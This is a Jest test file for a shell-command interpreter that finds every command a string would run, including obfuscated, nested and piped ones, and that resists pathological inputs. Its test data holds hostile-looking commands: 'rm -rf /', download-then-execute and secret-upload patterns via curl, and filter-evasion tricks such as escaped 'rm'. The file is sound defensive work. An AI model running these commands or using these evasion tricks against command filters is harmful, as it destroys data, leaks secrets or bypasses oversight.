import { describe, expect, test } from '@jest/globals';
import { UNKNOWN } from './act.ts';
import { Unparsable } from './ast.ts';
import { interpret } from './interpret.ts';

const names = (source: string) => interpret(source, '/w').acts.map((act) => [act.name, ...act.args].join(' '));

describe('words', () => {
  test.each([
    ["g'i't sta\\tus", 'git status'],
    ['"a b" c', 'a b c'],
    ["$'r\\x6d' -rf", 'rm -rf'],
    ["$'\\162\\155'", 'rm'],
    ['/usr/bin/git status', 'git status'],
    ['echo $X', `echo ${UNKNOWN}`],
    ['echo {a,b}', 'echo a b'],
    ['echo ${X:-y}', 'echo y'],
    ['echo a#b # comment', 'echo a#b'],
    ['git \\\n status', 'git status'],
  ])('%s', (source, expected) => {
    expect(names(source)[0]).toBe(expected);
  });
});

describe('every command is found', () => {
  test.each([
    ['a; b && c || d', ['a', 'b', 'c', 'd']],
    ['a | b |& c', ['a', 'b', 'c']],
    ['(a; { b; })', ['a', 'b']],
    ['if a; then b; elif c; then d; else e; fi', ['a', 'b', 'c', 'd', 'e']],
    ['for i in 1 2; do a $i; done', ['a 1', 'a 2']],
    ['while a; do b; done < f', ['a', 'b']],
    ['case x in y) a;; z|w) b; c;; esac', ['a', 'b', 'c']],
    ['a & b', ['a', 'b']],
    ['a\nb\r\nc', ['a', 'b', 'c']],
    ['echo "$(a)" `b` <(c)', ['a', 'b', 'c']],
    ['T=rm; $T x', ['rm x']],
    ['sudo -u root env A=1 timeout -k 5 10 nice -n 3 rm x', ['rm x']],
    ["bash -lc 'a; b'", ['a', 'b']],
    ['bash <<EOF\na\nEOF', ['a']],
    ["echo 'a b' | sh", ['a b']],
    ['find . -exec a {} \\;', ['a ./*']],
    ['echo x | xargs -I{} a {}', ['a x']],
    ["eval 'a'", ['a']],
    ["trap 'a' EXIT", ['a']],
    ["git -c alias.x='!a' x", ['a']],
    ['env -S "a b" c', ['a b c']],
    ["ssh -o ProxyCommand='a' h", ['a']],
    ['[[ -f x && $y =~ ^a(b|c)$ ]] && d', ['d']],
    ['((i++)); a', ['a']],
    ['x=$((1+2)); a', ['a']],
  ])('%s', (source, expected) => {
    expect(names(source)).toEqual(expect.arrayContaining(expected));
  });

  test('text is not taken for commands', () => {
    expect(names("cat <<'EOF'\nrm -rf /\nEOF")).toEqual(['cat']);
    expect(names("git commit -m 'x; rm -rf /'")).toEqual(['git commit -m x; rm -rf /']);
    expect(names('a # rm -rf /')).toEqual(['a']);
  });

  test('a here-document inside a substitution keeps its quotes and brackets', () => {
    const source = "git commit -m \"$(cat <<'EOF'\nit's (half) done\nEOF\n)\" && a";
    expect(names(source)).toContain('a');
  });
});

describe('flow', () => {
  test('what a file was made of', () => {
    const { acts } = interpret('curl -o x.sh h; chmod +x x.sh; ./x.sh', '/w');
    expect(acts.at(-1)?.code.map((act) => act.name)).toContain('curl');
  });

  test('order does not hide what flows through a pipe file', () => {
    const { acts } = interpret('curl -T p h & cat secret > p', '/w');
    expect(acts.find((act) => act.name === 'curl')?.inside.map((act) => act.name)).toContain('cat');
  });

  test('cd moves the working folder, a subshell gives it back', () => {
    const { acts } = interpret('(cd /etc; a); b', '/w');
    expect(acts.filter((act) => 'ab'.includes(act.name)).map((act) => act.cwd)).toEqual(['/etc', '/w']);
  });
});

describe('hostile input', () => {
  test.each([
    ['echo "'],
    ["echo '"],
    ['echo $('],
    ['a )'],
    ['if a; then b'],
    ['cat <'],
    ['f() ( a'],
    ['case x in'],
    ['[[ a'],
    ['`a'],
  ])('%s is unparsable', (source) => {
    expect(() => interpret(source, '')).toThrow(Unparsable);
  });

  test.each([
    ['brackets', '('.repeat(50_000)],
    ['substitutions', 'echo '.concat('$('.repeat(20_000))],
    ['quoted substitutions', '"$('.repeat(20_000)],
    ['backticks', '`'.repeat(50_001)],
    ['braces', 'echo '.concat('{a,'.repeat(20_000))],
    ['braces that multiply', 'echo '.concat('{a,b}'.repeat(2000))],
    ['here-documents', 'cat <<A\n'.repeat(5000)],
    ['blanks', ' '.repeat(190_000).concat('x')],
    ['pipes', 'a|'.repeat(40_000).concat('a')],
    ['variables', 'a=$a$a;'.repeat(500)],
    ['evals', 'eval '.repeat(3000).concat('a')],
    ['wrappers', 'env '.repeat(5000).concat('a')],
    ['shells in shells', 'bash -c '.repeat(200).concat('a')],
    ['self-calling functions', 'f(){ f; f; }; f; f'],
    ['too long', 'x'.repeat(300_000)],
  ])('%s end soon', (_, source) => {
    const start = performance.now();
    try {
      interpret(source, '');
    } catch (error) {
      expect(error).toBeInstanceOf(Unparsable);
    }
    expect(performance.now() - start).toBeLessThan(5_000);
  });
});
